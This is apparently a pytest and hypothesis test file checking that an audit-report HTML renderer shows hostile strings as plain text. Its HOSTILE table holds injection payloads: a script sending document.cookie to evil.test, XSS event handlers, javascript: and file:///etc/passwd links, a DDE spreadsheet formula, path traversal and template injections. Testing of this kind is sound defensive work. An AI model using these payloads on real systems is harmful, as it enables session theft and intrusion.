"""What devices and files say is hostile: it is shown, and changes nothing of the page (promise 8)."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from r2s_audit.i18n import Translator
from r2s_audit.model.audit import Audit
from r2s_audit.model.observation import Observation
from reports.html import render
from reports.material import Material
from tests.reports.page import Page, faults
from tests.reports.samples import document, observation

FRENCH = Translator("fr")
HOSTILE = {
    "script": "<script>fetch('http://evil.test/'+document.cookie)</script>",
    "handler": "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)",
    "close": "</style></title></svg></pre><script>alert(1)</script>",
    "comment": "--><!-- <![CDATA[ ]]> <?php ?>",
    "link": "javascript:alert(1) data:text/html,x file:///etc/passwd //evil.test/x http://evil.test/",
    "entity": "&lt;script&gt; &#60;script&#62; &amp; &",
    "template": "{{ 7*7 }} {% raw %} {# #} {address} ${x} <%= 1 %>",
    "css": "}body{background:url(http://evil.test/)}</style>\\22 ;@import 'x'",
    "ansi": "\x1b[31m\x1b]0;titre\x07\x9b2J\x90x\x9c",
    "bidi": "\u202egnp.exe\u202c\u2066\u2069\u200f",
    "formula": "=cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd\x00.png",
    "invisible": "a\u200b\ufeff\u00ad\U000e0041b\u2028\u2029",
    "zalgo": "a" + "\u0301\u0489" * 200,
    "surrogate": "\ud800\udfff",
    "long": "A" * 65536,
    "long-markup": "<b>" * 21846,
}
NUMBERS = {"points": {"worst", "best", "maximum"}}


def strings(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Where every string of a document stands."""
    if isinstance(value, str):
        return [path]
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [place for key, item in items for place in strings(item, (*path, key))]


def put(data: Any, path: tuple[Any, ...], text: str) -> None:
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = text


def accepted(path: tuple[Any, ...]) -> bool:
    """Whether the model takes any text there: enumerations, digests and dates do not."""
    data = copy.deepcopy(document())
    put(data, path, "texte libre")
    try:
        Audit.model_validate(data)
    except ValidationError:
        return False
    return True


FREE = [path for path in strings(document()) if accepted(path)]
IDENTITY = {"requirement", "criterion", "check", "target", "point", "theme", "observations", "subject", "id", "points"}
"""Fields by which parts of the document find each other: changing one alone changes what belongs together."""


def poisoned(text: str) -> dict[str, Any]:
    """The document with the text in every place that takes one; places that refer to each other stay consistent."""
    data = copy.deepcopy(document())
    for path in FREE:
        inside = IDENTITY.intersection(path)
        put(data, path, text if not inside else f"{path_value(document(), path)}{text}")
    return data


def path_value(data: Any, path: tuple[Any, ...]) -> str:
    for key in path:
        data = data[key]
    return str(data)


def page_of(data: dict[str, Any], **beside: Any) -> str:
    return render(Material(Audit.model_validate(data), **beside), FRENCH)


def test_there_is_something_to_poison() -> None:
    assert len(FREE) > 150
    places = {path[0] for path in FREE}
    assert {"building", "parties", "mandate", "passes", "findings", "verdicts", "score", "ledger_head"} <= places


def test_the_sane_page_has_no_fault() -> None:
    assert faults(page_of(document())) == []


@pytest.mark.parametrize("name", HOSTILE)
def test_text_in_every_place_at_once_stays_text(name: str) -> None:
    html = page_of(poisoned(HOSTILE[name]))
    assert faults(html) == []
    assert "evil.test" not in Page(html).style
    assert len(html) < 2_000_000
    html.encode()


def skeleton(html: str) -> list[Any]:
    """The structure without what legitimately follows the text: cuts that are told, bars that cannot be drawn."""
    kept = [(tag, attrs) for tag, attrs in Page(html).shape if attrs != (("class", "cut"),)]
    return [(tag, tuple(a for a in attrs if a[0] not in {"x", "x1", "x2", "width"})) for tag, attrs in kept]


@pytest.mark.parametrize("name", sorted(set(HOSTILE) - {"template"}))
def test_the_structure_is_that_of_harmless_text(name: str) -> None:
    harmless, hostile = page_of(poisoned("x")), page_of(poisoned(HOSTILE[name]))
    assert skeleton(hostile) == skeleton(harmless)


def test_what_a_device_says_is_shown_and_not_filled() -> None:
    said = Page(page_of(poisoned("{{ 7*7 }} {address}"))).text
    assert "{{ 7*7 }} {address}" in said
    assert "49" not in said


def test_an_argument_is_isolated_from_the_direction_of_its_neighbours() -> None:
    data = document()
    data["findings"][0]["expected"]["args"]["address"] = "שלום"
    assert "<bdi>שלום</bdi>" in page_of(data)


def test_a_cut_says_how_much_is_missing() -> None:
    data = document()
    data["building"]["name"] = "A" * 65536
    said = Page(page_of(data)).text
    assert "[suite coupée" in said
    assert "64 936 caractères]" in said


ANY_TEXT = st.one_of(
    st.sampled_from(sorted(HOSTILE.values())),
    st.text(st.characters(), max_size=40),
    st.text("<>&\"'/=`{}%#!-[]() \n\x00\x1b\u202ejavascript:onload", max_size=60),
)


@settings(max_examples=40, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large], deadline=None)
@given(st.lists(st.tuples(st.sampled_from(FREE), ANY_TEXT), min_size=1, max_size=12))
def test_any_text_in_any_places_stays_text(changes: list[tuple[tuple[Any, ...], str]]) -> None:
    data = copy.deepcopy(document())
    for path, text in changes:
        put(data, path, text)
    assert faults(page_of(data)) == []


@pytest.mark.parametrize("name", HOSTILE)
def test_observations_are_hostile_too(name: str) -> None:
    text = HOSTILE[name]
    raw = observation().model_dump(mode="json")
    raw["request"].update(collector=text, point=text, target=text, params=[[text, text]])
    raw.update(pass_id=text, facts={text: [text, {"a": text}], "n": list(range(5000))}, collector_version=text)
    raw["blobs"][0]["kind"] = text
    if name == "surrogate":  # a key's quoting needs encodable text: such a request never reaches a record
        raw["request"] = observation().request.model_dump(mode="json")
    seen = Observation.model_validate(raw)
    html = page_of(document(), observations={"3-abc": seen, "4-def": seen})
    assert faults(html) == []
    assert "Faits coupés ici" in Page(html).text


def test_the_lists_of_a_page_are_bounded() -> None:
    data = document()
    data["parties"] = data["parties"] * 500
    data["passes"] = data["passes"] * 400
    data["verdicts"] = data["verdicts"] * 800
    data["verdicts"][0] = copy.deepcopy(data["verdicts"][0])
    data["verdicts"][0]["criteria"] *= 500
    data["mandate"]["intrusive_checks"] = ["x" * 500] * 5000
    html = page_of(data)
    assert faults(html) == []
    assert len(html) < 20_000_000


@pytest.mark.parametrize("stamp", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-01-01T00:00:00"])
def test_dates_at_the_ends_of_the_calendar(stamp: str) -> None:
    data = json.loads(json.dumps(document()).replace("2026-03-04T05:06:07Z", stamp))
    assert faults(page_of(data)) == []


def test_the_checker_itself_finds_what_it_looks_for() -> None:
    good = page_of(document())
    for bad in (
        good.replace("<main>", "<main><script>x</script>"),
        good.replace("<main>", '<main onclick="x">'),
        good.replace("<main>", '<main><a href="javascript:x">y</a>'),
        good.replace("<main>", '<main><a href="#nowhere">y</a>'),
        good.replace("<main>", '<main><img src="x">'),
        good.replace("<main>", '<main><p style="x">'),
        good.replace("<style>", "<style>@import 'x';"),
        good.replace("<main>", "<main></p>"),
        good.replace("<main>", "<main><!-- x -->"),
        good.replace("<main>", "<main>\x1b"),
        good.replace("script-src", "script-src *;"),
    ):
        assert bad != good
        assert faults(bad) != [], bad[:200]
